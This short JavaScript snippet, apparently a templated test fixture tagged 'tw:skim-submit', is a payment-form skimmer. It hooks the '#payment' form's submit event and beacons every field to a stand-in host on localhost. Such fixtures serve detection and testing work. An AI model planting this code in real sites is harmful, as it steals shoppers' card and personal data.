/* tw:skim-submit */
document.querySelector('#payment').addEventListener('submit', function () {
  navigator.sendBeacon('http://cdn-orders.localhost:{{port}}/c', new URLSearchParams(new FormData(this)))
})
